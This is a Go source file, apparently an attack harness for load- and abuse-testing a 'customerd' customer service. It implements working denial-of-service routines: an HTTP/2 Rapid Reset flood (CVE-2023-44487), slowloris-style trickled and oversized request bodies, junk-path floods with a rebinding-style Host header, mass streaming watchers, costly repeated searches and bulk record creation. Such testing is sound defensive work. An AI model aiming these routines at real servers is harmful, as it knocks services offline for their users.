package attack

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"connectrpc.com/connect"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	customerv1 "customerd/gen/customer/v1"
	"customerd/gen/customer/v1/customerv1connect"
)

const servicePath = "/" + customerv1connect.CustomerServiceName + "/"

// JunkPaths sends n POSTs to CustomerService paths of pathBytes random
// letters. They come from 8 clients at once, without an API key; with
// foreignHost they name another host in their Host header (what a
// DNS-rebinding page sends). Each answer would, on a server that labels
// metrics by path, add a series that lives forever.
func JunkPaths(ctx context.Context, t Target, n, pathBytes int, foreignHost bool) *Answers {
	a := &Answers{}
	client := &http.Client{Timeout: 30 * time.Second}
	var next atomic.Int64
	var wg sync.WaitGroup
	for range 8 {
		wg.Go(func() {
			for next.Add(1) <= int64(n) && ctx.Err() == nil {
				req, err := http.NewRequestWithContext(ctx, http.MethodPost, t.URL+servicePath+junk(pathBytes), strings.NewReader("{}"))
				if err != nil {
					a.Add("error")
					continue
				}
				req.Header.Set("Content-Type", "application/json")
				if foreignHost {
					req.Host = "rebound.example:80"
				}
				resp, err := client.Do(req)
				if err != nil {
					a.Add(errorName(err))
					continue
				}
				a.Add(codeOf(resp, drain(resp)))
			}
		})
	}
	wg.Wait()
	return a
}

// RapidReset opens and at once resets streams on conns HTTP/2 connections
// without TLS (CVE-2023-44487's pattern). On each it sends, as fast as it
// can until ctx ends, a GetCustomer call's HEADERS and an RST_STREAM
// cancelling it. It counts the streams it reset ("reset"), and what ended
// its connections.
func RapidReset(ctx context.Context, t Target, conns int) *Answers {
	a := &Answers{}
	var wg sync.WaitGroup
	for range conns {
		wg.Go(func() {
			for ctx.Err() == nil {
				if err := rapidResetConn(ctx, t, a); err != nil && ctx.Err() == nil {
					a.Add("connection ended: " + errorName(err))
					waitOrDone(ctx, 50*time.Millisecond)
				}
			}
		})
	}
	wg.Wait()
	return a
}

// rapidResetConn runs RapidReset on one connection until ctx ends or the
// server ends the connection.
func rapidResetConn(ctx context.Context, t Target, a *Answers) error {
	conn, err := t.dial(ctx)
	if err != nil {
		return err
	}
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	defer stop()
	w := bufio.NewWriterSize(conn, 64<<10)
	var mu sync.Mutex // one writer at a time: the loop below and the reader's acks
	fr := http2.NewFramer(w, conn)
	if _, err := w.WriteString(http2.ClientPreface); err != nil {
		return err
	}
	if err := fr.WriteSettings(); err != nil {
		return err
	}
	if err := w.Flush(); err != nil {
		return err
	}
	readErr := make(chan error, 1)
	go func() { readErr <- readFrames(fr, w, &mu, a) }()
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for id := uint32(1); id < 1<<31-1 && ctx.Err() == nil; id += 2 {
		block.Reset()
		for _, f := range [][2]string{
			{":method", "POST"}, {":scheme", "http"}, {":authority", t.host()},
			{":path", servicePath + "GetCustomer"}, {"content-type", "application/grpc"}, {"te", "trailers"},
		} {
			_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
		}
		if t.Key != "" {
			_ = enc.WriteField(hpack.HeaderField{Name: "authorization", Value: "Bearer " + t.Key, Sensitive: true})
		}
		mu.Lock()
		err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true})
		if err == nil {
			err = fr.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		if err == nil && id%64 == 1 {
			err = w.Flush()
		}
		mu.Unlock()
		if err != nil {
			return err
		}
		a.Add("reset")
		select {
		case err := <-readErr:
			return err
		default:
		}
	}
	return ctx.Err()
}

// readFrames reads the server's frames for rapidResetConn until the
// connection fails. It acknowledges SETTINGS and PING as a client must
// (writing to w under mu) and counts GOAWAYs.
func readFrames(fr *http2.Framer, w *bufio.Writer, mu *sync.Mutex, a *Answers) error {
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			return err
		}
		mu.Lock()
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				err = fr.WriteSettingsAck()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				err = fr.WritePing(true, f.Data)
			}
		case *http2.GoAwayFrame:
			a.Add("goaway " + f.ErrCode.String())
		}
		if err == nil {
			err = w.Flush()
		}
		mu.Unlock()
		if err != nil {
			return err
		}
	}
}

// Body is a request body an attack sends slowly or not at all.
type Body struct {
	// Path is the request's path, such as "/customer.v1.CustomerService/GetCustomer".
	Path string
	// ContentType is its Content-Type.
	ContentType string
	// ContentLength is what its Content-Length says; negative sends the
	// body chunked, without one.
	ContentLength int64
	// First is sent at once after the headers.
	First []byte
	// Trickle, when positive, is the pause after which one more byte is
	// sent, again and again; zero sends nothing more.
	Trickle time.Duration
}

// GRPCWebWatch is the body of a WatchCustomers call over gRPC-Web that
// claims a 2 GiB body and sends a frame header and 1 MiB of it.
func GRPCWebWatch() Body {
	first := binary.BigEndian.AppendUint32([]byte{0}, 1<<30)
	return Body{
		Path: servicePath + "WatchCustomers", ContentType: "application/grpc-web+proto",
		ContentLength: 1 << 31, First: append(first, bytes.Repeat([]byte{'x'}, 1<<20)...),
	}
}

// SlowBodies keeps conns HTTP/1.1 connections sending body b until ctx
// ends. Each sends one request at a time: as soon as a request is answered
// or its connection closed, it starts another. It counts the answers.
func SlowBodies(ctx context.Context, t Target, conns int, b Body) *Answers {
	a := &Answers{}
	SlowBodiesInto(ctx, t, conns, b, a)
	return a
}

// SlowBodiesInto is SlowBodies counting into a, which others may read
// while it runs.
func SlowBodiesInto(ctx context.Context, t Target, conns int, b Body, a *Answers) {
	var wg sync.WaitGroup
	for range conns {
		wg.Go(func() {
			for ctx.Err() == nil {
				code := slowBody(ctx, t, b)
				if ctx.Err() == nil {
					a.Add(code)
				}
			}
		})
	}
	wg.Wait()
}

// slowBody sends one request with body b and returns the code of its
// answer, or what ended it.
func slowBody(ctx context.Context, t Target, b Body) string {
	conn, err := t.dial(ctx)
	if err != nil {
		waitOrDone(ctx, 50*time.Millisecond)
		return errorName(err)
	}
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	defer stop()
	var head strings.Builder
	fmt.Fprintf(&head, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: %s\r\n", b.Path, t.host(), b.ContentType)
	if t.Key != "" {
		fmt.Fprintf(&head, "Authorization: Bearer %s\r\n", t.Key)
	}
	if b.ContentLength >= 0 {
		fmt.Fprintf(&head, "Content-Length: %d\r\n\r\n", b.ContentLength)
	} else {
		head.WriteString("Transfer-Encoding: chunked\r\n\r\n")
	}
	chunk := func(p []byte) []byte {
		if b.ContentLength >= 0 {
			return p
		}
		return fmt.Appendf(nil, "%x\r\n%s\r\n", len(p), p)
	}
	answered := make(chan string, 1)
	go func() {
		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			answered <- errorName(err)
			return
		}
		answered <- codeOf(resp, drain(resp))
	}()
	// Write in the background: a server that answers without reading the
	// body leaves a large first write blocked.
	wrote := make(chan error, 1)
	go func() {
		_, err := conn.Write(append([]byte(head.String()), chunk(b.First)...))
		for err == nil && b.Trickle > 0 && waitOrDone(ctx, b.Trickle) {
			_, err = conn.Write(chunk([]byte{'x'}))
		}
		wrote <- err
	}()
	select {
	case code := <-answered:
		return code
	case <-ctx.Done():
		return "canceled"
	case err := <-wrote:
		if err == nil {
			// All sent: wait for the answer as long as the attack lasts.
			select {
			case code := <-answered:
				return code
			case <-ctx.Done():
				return "canceled"
			}
		}
		// The server may have answered and closed: read what it said.
		select {
		case code := <-answered:
			return code
		case <-time.After(5 * time.Second):
			return errorName(err)
		}
	}
}

// Client returns a generated client of the target over gRPC on cleartext
// HTTP/2, presenting the target's key.
func (t Target) Client() customerv1connect.CustomerServiceClient {
	p := new(http.Protocols)
	p.SetUnencryptedHTTP2(true)
	hc := &http.Client{Transport: keyTransport{t.Key, &http.Transport{Protocols: p}}}
	return customerv1connect.NewCustomerServiceClient(hc, t.URL, connect.WithGRPC())
}

// ConnectClient returns a generated client of the target over Connect
// JSON on HTTP/1.1, presenting the target's key.
func (t Target) ConnectClient() customerv1connect.CustomerServiceClient {
	hc := &http.Client{Transport: keyTransport{t.Key, &http.Transport{MaxIdleConnsPerHost: 64}}}
	return customerv1connect.NewCustomerServiceClient(hc, t.URL, connect.WithProtoJSON())
}

// keyTransport presents an API key on every request it sends through
// base: an Authorization header, unless key is "".
type keyTransport struct {
	key  string
	base http.RoundTripper
}

// RoundTrip sends r through base, with the key.
func (k keyTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	if k.key != "" {
		r = r.Clone(r.Context()) // a RoundTripper must not change its request
		r.Header.Set("Authorization", "Bearer "+k.key)
	}
	return k.base.RoundTrip(r)
}

// Watchers opens n WatchCustomers streams and keeps them until ctx ends.
// They run over gRPC on cleartext HTTP/2 (connections of the client's
// choosing), each reading every change. It counts how each ended: "open" for
// the ones still open at the end that received a change ("quiet" for those
// that received none: open, or not yet answered), else the code the
// server ended it with; events counts the changes they received. It reads
// the frames without decoding them, so that the server, not this client,
// does the work being measured.
func Watchers(ctx context.Context, t Target, n int, events *atomic.Int64) *Answers {
	a := &Answers{}
	p := new(http.Protocols)
	p.SetUnencryptedHTTP2(true)
	client := &http.Client{Transport: &http.Transport{Protocols: p}}
	var wg sync.WaitGroup
	for range n {
		wg.Go(func() { a.Add(watch(ctx, t, client, events)) })
	}
	wg.Wait()
	return a
}

// watch runs one watcher of Watchers and says how it ended.
func watch(ctx context.Context, t Target, client *http.Client, events *atomic.Int64) string {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, t.URL+servicePath+"WatchCustomers", bytes.NewReader(make([]byte, 5)))
	if err != nil {
		return "error"
	}
	req.Header.Set("Content-Type", "application/grpc")
	req.Header.Set("TE", "trailers")
	if t.Key != "" {
		req.Header.Set("Authorization", "Bearer "+t.Key)
	}
	resp, err := client.Do(req)
	if err != nil {
		if ctx.Err() != nil {
			return "quiet"
		}
		return errorName(err)
	}
	defer resp.Body.Close()
	if st := resp.Header.Get("Grpc-Status"); st != "" {
		return grpcCodeName(st) // refused before the stream began
	}
	got := false
	r := bufio.NewReaderSize(resp.Body, 32<<10)
	var prefix [5]byte
	for {
		if _, err := io.ReadFull(r, prefix[:]); err != nil {
			break
		}
		if _, err := r.Discard(int(binary.BigEndian.Uint32(prefix[1:]))); err != nil {
			break
		}
		events.Add(1)
		got = true
	}
	switch {
	case ctx.Err() != nil && got:
		return "open"
	case ctx.Err() != nil:
		return "quiet"
	case resp.Trailer.Get("Grpc-Status") != "":
		return grpcCodeName(resp.Trailer.Get("Grpc-Status"))
	}
	return "closed"
}

// connectCode names the outcome of a call: "open" when it lasted until
// ctx ended.
func connectCode(ctx context.Context, err error) string {
	if ctx.Err() != nil {
		return "open"
	}
	return codeName(err)
}

// codeName names the Connect code of a call's error, "ok" for none.
func codeName(err error) string {
	if err == nil {
		return "ok"
	}
	return connect.CodeOf(err).String()
}

// ExpensiveSearchRequest is the costliest search a client could ask for in
// one call: word (a common one) forty times over, counted, ordered by name.
func ExpensiveSearchRequest(word string) *customerv1.ListCustomersRequest {
	return &customerv1.ListCustomersRequest{Query: strings.Repeat(word+" ", 40), IncludeTotal: true, OrderBy: "name"}
}

// Searches has clients send req over and over until ctx ends.
func Searches(ctx context.Context, t Target, clients int, req *customerv1.ListCustomersRequest) *Answers {
	a := &Answers{}
	c := t.ConnectClient()
	var wg sync.WaitGroup
	for range clients {
		wg.Go(func() {
			for ctx.Err() == nil {
				_, err := c.ListCustomers(ctx, req)
				if ctx.Err() == nil {
					a.Add(connectCode(ctx, err))
				}
			}
		})
	}
	wg.Wait()
	return a
}

// Creates has clients create customers until ctx ends and returns how many
// were created.
func Creates(ctx context.Context, t Target, clients int) int {
	c := t.Client()
	var n atomic.Int64
	var wg sync.WaitGroup
	prefix := junk(8)
	for i := range clients {
		wg.Go(func() {
			for j := 0; ctx.Err() == nil; j++ {
				_, err := c.CreateCustomer(ctx, &customerv1.CreateCustomerRequest{Customer: &customerv1.Customer{
					Name: "Attack Writer", Email: fmt.Sprintf("%s-%d-%d@example.com", prefix, i, j),
				}})
				if err == nil && ctx.Err() == nil {
					n.Add(1)
				}
			}
		})
	}
	wg.Wait()
	return int(n.Load())
}
